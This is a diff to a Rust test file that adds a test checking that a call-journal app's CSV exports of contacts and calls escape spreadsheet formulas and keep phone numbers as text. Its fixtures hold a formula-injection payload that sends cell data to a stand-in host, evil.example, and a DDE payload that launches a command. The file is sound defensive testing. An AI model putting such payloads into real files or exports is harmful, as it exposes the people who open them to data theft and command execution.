@@ -710,3 +710,69 @@ fn the_settings_page_offers_the_https_certificate_as_pem() {
         "the download is the certificate the page describes"
     );
 }
+
+#[test]
+fn exports_open_in_a_spreadsheet_as_text_not_formulas() {
+    let srv = server();
+    let mut c = set_up(&srv);
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    srv.db.import_csv(&format!(
+        "first_name,last_name,office\n\"{}\",Caller,+49 30 5550111\n",
+        formula.replace('"', "\"\"")
+    ));
+    let key = srv.db.key("journal");
+    post_event(
+        &srv,
+        &key,
+        json!({"event": "ringing", "call_id": "f1", "remote": "+49 30 5550111", "extension": "21"}),
+    );
+    post_event(&srv, &key, json!({"event": "hangup", "call_id": "f1"}));
+    let id = journal(&srv, &key)[0]["id"].clone();
+    let r = srv.request(
+        "PATCH",
+        &format!("/api/v1/calls/{id}"),
+        &[
+            ("Authorization", &format!("Bearer {key}")),
+            ("Content-Type", "application/json"),
+        ],
+        json!({"description": "@SUM(1+1)*cmd|' /C calc'!A0"})
+            .to_string()
+            .as_bytes(),
+    );
+    assert_eq!(r.status, 200, "{}", r.text());
+
+    let cells = |csv: &str| -> Vec<String> {
+        csv::Reader::from_reader(csv.as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect()
+    };
+    let contacts = c.get("/contacts/export.csv").text();
+    let calls = c.get("/calls.csv").text();
+    for (name, csv) in [("contacts", &contacts), ("calls", &calls)] {
+        let cells = cells(csv);
+        assert!(
+            cells.iter().all(|v| !v.starts_with(['=', '@'])),
+            "{name}: a cell a spreadsheet would run:\n{csv}"
+        );
+        assert!(
+            cells.contains(&"+49305550111".to_string()),
+            "{name}: numbers stay numbers:\n{csv}"
+        );
+    }
+    assert!(
+        cells(&contacts).contains(&format!("'{formula}")),
+        "{contacts}"
+    );
+
+    // The export imports as it was: the name comes back without the quote.
+    let again = Db::new("web-reimport");
+    let file = again.dir.path().join("contacts.csv");
+    std::fs::write(&file, &contacts).unwrap();
+    again.ok(&["import", "contacts", file.to_str().unwrap()]);
+    let out = again.ok(&["export", "contacts"]);
+    assert!(cells(&out).contains(&format!("'{formula}")), "{out}");
+    let found: serde_json::Value =
+        serde_json::from_str(&again.ok(&["lookup", "+49305550111"])).unwrap();
+    assert_eq!(found["matches"][0]["first_name"], formula, "{found}");
+}
